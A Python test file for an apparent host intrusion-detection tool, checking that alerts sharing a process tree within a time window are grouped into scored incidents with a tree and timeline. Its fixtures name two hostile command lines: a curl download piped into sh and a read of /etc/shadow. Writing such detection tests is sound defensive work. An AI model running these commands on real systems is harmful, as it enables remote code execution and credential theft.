"""Incidents: alerts of one host joined by process tree within a window, scored, with the tree
that joins them and a timeline; raised by the real detection stage and stored in SQLite."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from pathlib import Path

import pytest

from api.incidentseed import SENSOR, seed_incidents
from aurora.collector.incidents import (
    find_incident,
    group_incidents,
    joining_tree,
    list_incidents,
    timeline,
)
from aurora.collector.store import Store, open_store

HOUR_MS = 3_600_000


Seeded = tuple[Store, dict[str, list[int]]]


@pytest.fixture
def seeded(tmp_path: Path) -> Iterator[Seeded]:
    store = open_store(tmp_path / "state")
    ids = seed_incidents(store, tmp_path / "rules")
    yield store, ids
    store.close()


def test_one_session_is_one_incident_and_other_trees_are_their_own(seeded: Seeded) -> None:
    store, ids = seeded
    found = list_incidents(store, HOUR_MS)
    by_first = {i.incident_id: i for i in found}
    assert len(found) == 3
    attack = by_first[ids["curl"][0]]
    assert [a.alert_id for a in attack.alerts] == [ids["curl"][0], ids["shadow"][0]]
    assert attack.root == "session:11" and attack.sensor_id == SENSOR
    assert attack.techniques == ("T1003.008", "T1105")
    assert attack.severity_id == 5 and attack.status == "open"
    assert attack.score == 10 * 5 + 10 * 2 + 2
    assert attack.title == "Test shadow (+1 more rule)"
    discovery = by_first[ids["ls"][0]]
    assert discovery.root == "session:22" and len(discovery.alerts) == 1
    loner = by_first[ids["ls"][1]]
    assert loner.root == "" and len(loner.alerts) == 1
    assert attack.score > discovery.score


def test_a_tree_quiet_for_longer_than_the_window_starts_a_new_incident(seeded: Seeded) -> None:
    store, _ = seeded
    alerts = store.list_alerts(sensor_id=SENSOR)
    # 30 s separate the curl and shadow alerts: a 10 s window splits them.
    split = group_incidents(alerts, 10_000)
    assert len(split) == 4
    assert len(group_incidents(alerts, HOUR_MS)) == 3


def test_resolving_every_alert_resolves_the_incident(seeded: Seeded) -> None:
    store, ids = seeded
    store.set_alert_status(ids["curl"][0], "resolved")
    assert getattr(find_incident(store, ids["curl"][0], HOUR_MS), "status", None) == "open"
    store.set_alert_status(ids["shadow"][0], "resolved")
    assert getattr(find_incident(store, ids["curl"][0], HOUR_MS), "status", None) == "resolved"


def test_an_alert_that_is_not_first_names_no_incident(seeded: Seeded) -> None:
    store, ids = seeded
    assert find_incident(store, ids["shadow"][0], HOUR_MS) is None
    assert find_incident(store, 999_999, HOUR_MS) is None


def test_joining_tree_and_timeline(seeded: Seeded) -> None:
    store, ids = seeded
    incident = find_incident(store, ids["curl"][0], HOUR_MS)
    assert incident is not None
    tree = joining_tree(incident)
    assert [(n["name"], n["depth"]) for n in tree] == [
        ("systemd", 0), ("sshd", 1), ("bash", 2), ("curl", 3), ("cat", 3),
    ]  # fmt: skip
    assert tree[3]["alert_ids"] == [ids["curl"][0]] and tree[4]["alert_ids"] == [ids["shadow"][0]]
    rows = timeline(incident)
    assert [r["cmd_line"] for r in rows] == ["curl http://203.0.113.9/x | sh", "cat /etc/shadow"]
    assert rows[0]["time_ms"] < rows[1]["time_ms"]


def test_alerts_of_another_host_never_join(seeded: Seeded) -> None:
    store, _ = seeded
    alerts = store.list_alerts(sensor_id=SENSOR)
    moved = [dataclasses.replace(alerts[0], sensor_id="other", alert_id=10_000)]
    assert len(group_incidents([*alerts, *moved], HOUR_MS)) == 4
